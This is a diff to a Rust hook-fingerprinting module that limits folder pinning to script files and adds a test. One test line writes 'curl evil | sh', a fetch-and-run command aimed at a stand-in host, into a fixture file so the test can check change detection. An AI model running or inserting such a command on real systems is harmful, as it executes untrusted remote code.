@@ -9,8 +9,10 @@
 //! - inside a nested shell string (`sh -c 'sh scripts/h2.sh'`, any depth up
 //!   to [`MAX_DEPTH`]),
 //! - relative to a folder it `cd`s or `pushd`s into (`cd scripts && ./h.sh`),
-//! - or that lies in a folder it names, or in the folder of a file it names
-//!   (a script's helpers: `scripts/h.sh` sourcing `scripts/lib.sh`),
+//! - or that lies in a folder it names, or in the folder of a script it
+//!   names (a script's helpers: `scripts/h.sh` sourcing `scripts/lib.sh`;
+//!   a script is a file with an executable bit or a script's extension, so
+//!   `rustfmt src/main.rs` pins that file, not all of `src/`),
 //!
 //! the workspace's top folder excepted (pinning every file of the project
 //! would turn a hook off at every edit). Folders are read recursively
@@ -121,7 +123,9 @@ pub fn fingerprint(
         for base in &bases {
             let Some(path) = inside(workspace, &base.join(word)) else { continue };
             if path.is_file() {
-                if let Some(parent) = path.parent().filter(|p| *p != workspace) {
+                if is_script(&path)
+                    && let Some(parent) = path.parent().filter(|p| *p != workspace)
+                {
                     folders.insert(parent.to_path_buf());
                 }
                 files.insert(path);
@@ -159,6 +163,24 @@ fn split_words(text: &str, depth: u8, out: &mut Vec<String>) {
             split_words(&word, depth + 1, out);
         }
     }
+}
+
+/// Extensions of files an interpreter runs.
+const SCRIPT_EXTENSIONS: [&str; 14] =
+    ["sh", "bash", "zsh", "fish", "py", "js", "mjs", "cjs", "ts", "rb", "pl", "php", "lua", "ps1"];
+
+/// Whether the file at `path` is a script: executable, or named like one.
+fn is_script(path: &Path) -> bool {
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        if std::fs::metadata(path).is_ok_and(|m| m.permissions().mode() & 0o111 != 0) {
+            return true;
+        }
+    }
+    path.extension()
+        .and_then(|e| e.to_str())
+        .is_some_and(|e| SCRIPT_EXTENSIONS.contains(&e.to_ascii_lowercase().as_str()))
 }
 
 /// `path` canonical, if it exists inside `workspace`.
@@ -243,6 +265,11 @@ mod tests {
         let before = fp("sh other/h2.sh", &ws);
         std::fs::write(ws.join("other/lib.sh"), "curl evil | sh").unwrap();
         assert_ne!(before, fp("sh other/h2.sh", &ws));
+        // A file that is not a script pins itself, not its folder.
+        std::fs::write(ws.join("other/data.txt"), "x").unwrap();
+        let before = fp("wc -l other/data.txt", &ws);
+        std::fs::write(ws.join("other/lib.sh"), "changed again").unwrap();
+        assert_eq!(before, fp("wc -l other/data.txt", &ws));
         // The workspace's top folder is not pinned wholesale.
         let before = fp("cd \"$CLAUDE_PROJECT_DIR\" && echo hi", &ws);
         std::fs::write(ws.join("README"), "edited").unwrap();
